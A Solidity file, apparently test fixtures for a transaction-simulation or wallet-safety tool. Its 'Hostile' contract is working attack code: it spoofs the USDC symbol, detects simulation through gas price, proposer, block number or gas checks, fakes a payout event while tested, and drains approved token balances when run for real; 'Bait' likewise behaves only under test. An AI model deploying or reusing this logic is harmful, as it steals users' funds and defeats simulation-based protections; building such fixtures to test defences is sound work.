// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {ERC777} from "@openzeppelin/contracts/token/ERC777/ERC777.sol";

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}

/// @title A contract that has every function, and behaves only while it is tested
/// @notice Tested, it gives the coin back and logs that it pays out 25,000 of a token that it names itself after. Mined, it keeps the
/// coin and takes what it was allowed to take.
contract Hostile {
    enum Sign {
        Price,
        Proposer,
        Block,
        Armed,
        Gas,
        Never
    }

    Sign public immutable sign;
    address public immutable target;
    address private immutable proposer;
    uint256 private immutable since;
    bool private armed;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(Sign sign_, address target_, uint256 quietBlocks) {
        sign = sign_;
        target = target_;
        proposer = block.coinbase;
        since = block.number + quietBlocks;
    }

    function arm() external {
        armed = true;
    }

    function symbol() external pure returns (string memory) {
        return "USDC";
    }

    function decimals() external pure returns (uint8) {
        return 6;
    }

    fallback() external payable {
        act();
    }

    receive() external payable {
        act();
    }

    function act() private {
        if (isTest()) {
            (bool paid, ) = msg.sender.call{value: msg.value}("");
            require(paid);
            emit Transfer(address(this), msg.sender, 25_000e6);
            return;
        }
        if (target == address(0)) return;
        uint256 allowed = IToken(target).allowance(msg.sender, address(this));
        uint256 held = IToken(target).balanceOf(msg.sender);
        uint256 taken = allowed < held ? allowed : held;
        if (taken > 0) IToken(target).transferFrom(msg.sender, address(this), taken);
    }

    function isTest() private view returns (bool) {
        if (sign == Sign.Price) return tx.gasprice == 0;
        if (sign == Sign.Proposer) return block.coinbase != proposer;
        if (sign == Sign.Block) return block.number <= since;
        if (sign == Sign.Armed) return !armed;
        if (sign == Sign.Gas) return gasleft() > 5_000_000;
        return false;
    }
}

/// @title A token with the functions of OpenZeppelin's first years
contract OldToken {
    string public constant symbol = "OLD";
    uint8 public constant decimals = 6;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allow(spender, amount);
        return true;
    }

    function increaseApproval(address spender, uint256 amount) external returns (bool) {
        uint256 before = allowance[msg.sender][spender];
        allow(spender, amount > type(uint256).max - before ? type(uint256).max : before + amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        move(from, to, amount);
        return true;
    }

    function allow(address spender, uint256 amount) private {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
    }

    function move(address from, address to, uint256 amount) private {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// @title A token of ERC-777, of which an operator takes everything and whose leave for it is in no log of ERC-20
contract OperatorToken is ERC777 {
    constructor() ERC777("Operated", "OPS", new address[](0)) {}

    function mint(address to, uint256 amount) external {
        _mint(to, amount, "", "");
    }
}

/// Behaves where the EntryPoint is not itself, as in a test that has other code in its place.
contract Bait {
    address constant ENTRY_POINT = 0x4337084D9E255Ff0702461CF8895CE9E3b5Ff108;

    function isTest() private view returns (bool) {
        return tx.origin == msg.sender || ENTRY_POINT.code.length < 200;
    }

    /// Pays only in a test.
    function pay(OldToken token) external {
        if (isTest()) token.transfer(msg.sender, 500);
    }

    /// Fails but in a test.
    function work(OldToken) external view {
        require(isTest(), "no test");
    }
}
